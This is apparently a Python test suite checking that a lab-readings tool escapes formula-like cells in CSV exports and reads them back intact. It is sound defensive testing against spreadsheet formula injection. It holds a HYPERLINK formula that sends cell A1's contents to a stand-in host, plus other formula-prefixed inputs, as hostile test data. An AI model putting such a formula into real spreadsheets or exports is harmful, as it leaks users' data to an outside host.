"""What a spreadsheet would work out as a formula is text in an exported file, and comes back as it was."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.adapters.files.logs import QUESTION_TEXT, Log, volts

from ohmsworth import wiring
from ohmsworth.adapters.files.bench_sheet import sheet_bytes
from ohmsworth.adapters.files.entries import read_entries
from ohmsworth.adapters.files.formulas import as_text, as_written
from ohmsworth.readings import Study
from ohmsworth.report.sheet import SheetRow

LINK = '=HYPERLINK("http://elsewhere.lan/?x="&A1,"look")'
NAMES = (LINK, "+A1", "-A1", "@SUM(A1)", "'=2+3", "''=2", "=new", "- loose", "-20 °C", "'quoted'")


def table(files: dict[str, bytes]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(files["readings.csv"].decode("utf-8-sig"))))


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula: it begins with such a sign, and is no number."""
    if cell[:1] not in "=+-@" or cell in ("", "+", "-"):
        return False
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return True
    return False


@given(st.text(st.sampled_from("'=+-@a1.,e ")))
@example("'=")
@example("-0,25")
@example("1e-3")
def test_every_cell_comes_back(cell: str) -> None:
    assert as_written(as_text(cell)) == cell
    assert not runs(as_text(cell))


@pytest.mark.parametrize(
    "number", ["-0.2530", "+1.5", "-1e-3", "-,5", "-12", "+", "-", "0.25", "", "cable", "a=b"]
)
def test_numbers_and_signs_stay_as_they_are(number: str) -> None:
    assert as_text(number) == number


def log_with(names: tuple[str, ...]) -> Log:
    log = Log()
    log.ask()
    for i, name in enumerate(names):
        one = volts(name, "new", f"-0.25{i} mV")
        log.take(replace(one, note=name, operator=name, polarity="-", others={f"={i % 2}": name}))
    return log


def test_an_exported_file_holds_no_formula_and_is_read_as_it_was() -> None:
    log = log_with(NAMES)
    files = wiring.folder_of(log.state)
    cells = table(files)
    assert not [cell for row in cells for cell in row if runs(cell)]
    assert "-0.250" in cells[1]
    assert "-" in cells[1]
    assert "'" + LINK in cells[1]
    back = read_entries(files["readings.csv"], True)
    assert [row.entry.specimen for row in back] == list(NAMES)
    for row, taken in zip(back, log.state.readings, strict=True):
        assert (row.entry.note, row.entry.operator) == (taken.entry.note, taken.entry.operator)
        assert {k: v for k, v in row.entry.others.items() if v} == dict(taken.entry.others)


def test_a_folder_that_came_in_goes_out_byte_for_byte() -> None:
    files = wiring.folder_of(log_with(NAMES).state)
    again = Log()
    again.ask()
    for row in read_entries(files["readings.csv"], True):
        again.take(row.entry)
    assert wiring.folder_of(again.state)["readings.csv"] == files["readings.csv"]


def test_an_answer_knows_the_names_as_they_are() -> None:
    log = Log()
    log.ask(QUESTION_TEXT.replace('reference = "new"', 'reference = "@new"'))
    for specimen in ("=a", "b"):
        log.take(volts(specimen, "@new", "0.25 mV"))
    found = wiring.read_folder(wiring.folder_of(log.state))
    assert found.table.specimen.names == ("=a", "b")
    assert found.table.condition.names == ("@new",) == (found.study.reference,)


def test_a_bench_sheet_holds_no_formula(tmp_path: Path) -> None:
    row = SheetRow(1, 1, "+Ann", LINK, "=new", 1, "-", "-see below")
    written = sheet_bytes(tmp_path / "sheet.csv", (row,), Study("Does it matter?")).decode("utf-8-sig")
    cells = next(csv.reader(io.StringIO(written.splitlines()[1])))
    assert not [cell for cell in cells if runs(cell)]
    assert "-" in cells
    assert [as_written(cell) for cell in cells if cell.startswith("'")] == [
        "+Ann",
        LINK,
        "=new",
        "-see below",
    ]
